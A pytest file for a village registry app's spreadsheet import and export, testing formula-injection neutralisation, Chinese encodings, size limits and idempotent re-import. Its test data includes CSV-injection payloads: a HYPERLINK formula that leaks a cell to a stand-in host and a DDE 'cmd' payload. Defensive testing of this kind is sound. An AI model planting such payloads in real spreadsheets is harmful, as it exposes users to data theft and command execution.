"""Tables in and out: every export neutralises cells a spreadsheet would run as formulas (and an
export imports back unchanged); files saved by a real spreadsheet program (.xlsx, GBK and
GB18030 CSV) import; limits are checked; the same file imported twice changes nothing."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from ledger.errors import InvalidInput, LimitExceeded
from ledger.identity.service import SYSTEM
from ledger.registry import csvio
from ledger.registry.schemas import RegistryImported
from ledger.registry import service as registry
from ledger.registry.models import Household, Person
from ledger.sheets import tabular
from tests.builders.registry import make_world

FIXTURES = Path(__file__).parent / "fixtures" / "sheets"
HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"点我\")", "+1+1", "-2+3", "@SUM(1)",
           "\t=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("text", HOSTILE)
def test_neutralise_quotes_formula_text_and_restore_undoes_it(text):
    safe = tabular.neutralise(text)
    assert safe == "'" + text
    assert tabular.restore(safe) == text


def test_neutralise_keeps_numbers_and_plain_text():
    assert tabular.neutralise(-5) == -5
    assert tabular.neutralise("陈某甲") == "陈某甲"
    assert tabular.neutralise("'=already") == "'=already"
    assert tabular.neutralise(None) == ""


def _registry_with_hostile_names(db):
    w = make_world(db, fund=False)
    with db.transaction() as s:
        h = registry.add_household(s, registry.HouseholdDraft(w.own, HOSTILE[0], "@SUM(A1:A9)"))
        registry.add_people(s, [registry.PersonDraft(w.own, name, h.id) for name in HOSTILE[:4]])
    return w


def _csv_cells(data: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]


def test_registry_csv_export_writes_no_cell_a_spreadsheet_would_run(db):
    _registry_with_hostile_names(db)
    cells = _csv_cells(csvio.export_csv(db, SYSTEM))
    assert not [c for c in cells if c.startswith(tabular.FORMULA_START)]
    assert "'@SUM(A1:A9)" in cells
    assert "'+1+1" in cells and "'-2+3" in cells


def test_registry_xlsx_export_has_no_formula_cells(db):
    _registry_with_hostile_names(db)
    wb = load_workbook(io.BytesIO(csvio.export_xlsx(db, SYSTEM)))
    cells = [c for row in wb.worksheets[0].iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'@SUM(1)" in [c.value for c in cells]


def test_export_with_formula_like_names_imports_back_unchanged(db, tmp_path):
    from ledger.db import Database
    from tests.conftest import build_schema
    w = _registry_with_hostile_names(db)
    for export in (csvio.export_csv, csvio.export_xlsx):
        other = Database(f"sqlite:///{tmp_path / (export.__name__ + '.sqlite3')}")
        build_schema(other)
        with other.transaction() as s:
            town = registry.add_town(s, "宝盖镇")
            registry.add_village(s, town.id, w.own_name)
        csvio.import_csv(other, SYSTEM, export(db, SYSTEM))
        with db.sessions() as s, other.sessions() as o:
            q = select(Person.name).order_by(Person.name)
            assert list(o.scalars(q)) == list(s.scalars(q))
            q = select(Household.head_name, Household.address, Household.plate_code)
            assert o.execute(q).all() == s.execute(q).all()
        other.dispose()


def test_village_year_export_neutralises_names(db, tmp_path):
    from ledger.recognition import tasks
    from tests.builders.recognition import award
    from tests.builders.recognition import make_world as recognition_world
    w = recognition_world(db, people=2, households=1)
    with db.transaction() as s:
        s.get(Person, w.people[0]).name = "=HYPERLINK(\"http://x.example\")"
        s.get(Household, w.households[0]).head_name = "+1+1"
    award(db, w.villages[0], "person", w.people[0], 5)
    award(db, w.villages[0], "household", w.households[0], 5)
    with db.transaction() as s:
        out = tasks.export_village(s, w.villages[0], tasks.local_date(tasks.utcnow()).year,
                                   str(tmp_path))
    cells = _csv_cells(Path(out["path"]).read_bytes())
    assert not [c for c in cells if c.startswith(tabular.FORMULA_START)]
    assert "'+1+1" in cells


def _world_of_fixtures(db):
    with db.transaction() as s:
        town = registry.add_town(s, "宝盖镇")
        registry.add_village(s, town.id, "塘边村")
        registry.add_village(s, town.id, "坑东村")


@pytest.mark.parametrize("name,encoding,special", [
    ("registry-libreoffice.xlsx", None, "黄志明（独居）"),
    ("registry-excel-gbk.csv", "gb18030", "黄志明（独居）"),
    ("registry-gb18030.csv", "gb18030", "𠮷祥（独居）"),
])
def test_files_saved_by_a_spreadsheet_program_import(db, name, encoding, special):
    _world_of_fixtures(db)
    data = (FIXTURES / name).read_bytes()
    checked = csvio.import_csv(db, SYSTEM, data, dry_run=True)
    assert checked.encoding == encoding and checked.rows == 5
    assert csvio.import_csv(db, SYSTEM, data) == RegistryImported(households_created=3,
                                                                  people_created=5)
    with db.sessions() as s:
        people = {p.name: p for p in s.scalars(select(Person))}
    assert people["陈美玲"].phone == "17000001001"  # a number cell in the .xlsx
    assert people["陈美玲"].id_number == "350582198001010015"
    assert people[special].is_volunteer and people[special].household_id is None


def _count(db) -> tuple[int, int]:
    with db.sessions() as s:
        return (s.scalar(select(func.count()).select_from(Household)),
                s.scalar(select(func.count()).select_from(Person)))


def test_same_file_imported_again_changes_nothing(db):
    _world_of_fixtures(db)
    data = (FIXTURES / "registry-libreoffice.xlsx").read_bytes()
    first = csvio.import_csv(db, SYSTEM, data)
    before = _count(db)
    assert csvio.import_csv(db, SYSTEM, data) == first
    assert csvio.import_csv(db, SYSTEM, data, dry_run=True).already_imported is True
    assert _count(db) == before == (3, 5)


def test_a_gbk_line_in_a_utf8_file_is_reported_by_number():
    data = "姓名\n陈某甲\n".encode() + "林某乙\n".encode("gbk")
    table = tabular.read_table(data)
    assert table.encoding == "utf-8"
    assert [(e.line, e.code) for e in table.errors] == [(3, "encoding_invalid")]


def test_limits_are_named_and_checked(monkeypatch):
    with pytest.raises(LimitExceeded) as e:
        tabular.read_table(b"a" * (tabular.MAX_FILE_BYTES + 1))
    assert e.value.code == "import_too_large"
    long = "姓名\n" + "长" * (tabular.MAX_CELL_CHARS + 1) + "\n"
    table = tabular.read_table(long.encode())
    assert [(e.line, e.code) for e in table.errors] == [(2, "cell_too_long")]
    with pytest.raises(LimitExceeded) as e:
        tabular.read_table(("," * tabular.MAX_COLUMNS + "x\n1\n" + "1," * 50 + "\n").encode())
    assert e.value.code == "import_too_many_columns"
    with pytest.raises(InvalidInput) as e:
        tabular.read_table(b"\xd0\xcf\x11\xe0" + b"\0" * 100)
    assert e.value.code == "import_xls_unsupported"


def test_a_workbook_that_expands_too_far_is_refused(monkeypatch):
    monkeypatch.setattr(tabular, "MAX_UNZIPPED_BYTES", 1000)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("xl/worksheets/sheet1.xml", "0" * 100_000)
    with pytest.raises(LimitExceeded) as e:
        tabular.read_table(buf.getvalue())
    assert e.value.code == "import_too_large"


def test_template_has_the_chinese_header_and_an_example_row():
    wb = load_workbook(io.BytesIO(csvio.template_xlsx()))
    rows = list(wb.worksheets[0].iter_rows(values_only=True))
    assert rows[0] == tuple(c.header for c in csvio.COLUMNS)
    assert rows[1][4] == "陈某某" and len(rows) == 2


def test_errors_name_the_row_and_the_column_in_chinese(db):
    w = make_world(db, fund=False)
    data = f"村（社区）,姓名,手机号\n{w.own_name},陈某甲,123\n".encode()
    with pytest.raises(InvalidInput) as e:
        csvio.import_csv(db, SYSTEM, data)
    (err,) = e.value.extra["errors"]
    assert err["text"].startswith("第2行“手机号”列：")


def test_api_registry_xlsx_export_and_template(client, db, auth):
    w = _registry_with_hostile_names(db)
    headers = auth("village_admin", village_id=w.own)
    r = client.get(f"/api/v1/registry/export.xlsx?village_id={w.own}", headers=headers)
    assert r.status_code == 200 and r.headers["content-type"].startswith(tabular.XLSX_MEDIA_TYPE)
    cells = [c for row in load_workbook(io.BytesIO(r.content)).worksheets[0].iter_rows()
             for c in row]
    assert not [c for c in cells if c.data_type == "f"]
    r = client.get("/api/v1/registry/template.xlsx", headers=headers)
    assert r.status_code == 200 and r.content.startswith(b"PK")


def test_cells_of_reads_each_key_as_cell_of_does():
    """The per-file reader answers what `cell_of` answers for every key: a column the file
    lacks, a row that ends early and a column beyond the keys' all read as cell_of reads them."""
    index = {"a": 0, "c": 3, "b": 1}  # "d" missing; column 2 is one the import ignores
    read = tabular.cells_of(index, ("a", "b", "c", "d"))
    for cells in ((), ("1",), ("1", "2"), ("1", "2", "x"), ("1", "2", "x", "4"),
                  ("1", "2", "x", "4", "5", "6")):
        assert read(cells) == tuple(tabular.cell_of(cells, index, k) for k in "abcd")
    whole = tabular.cells_of({"a": 1, "b": 0}, ("a", "b"))
    assert whole(("x", "y")) == ("y", "x") and whole(("x",)) == ("", "x")


def test_csv_rows_are_stripped_and_unquoted_with_or_without_apostrophes():
    plain = tabular.read_table("甲,乙,丙\n 1 ,2,\n\n , \n3,'x,'=y\n".encode())
    assert plain.rows == [(2, ("1", "2")), (5, ("3", "'x", "=y"))]
    gbk = tabular.read_table("甲,乙\n 陈 ,2\n".encode("gb18030"))
    assert gbk.encoding == "gb18030" and gbk.rows == [(2, ("陈", "2"))]
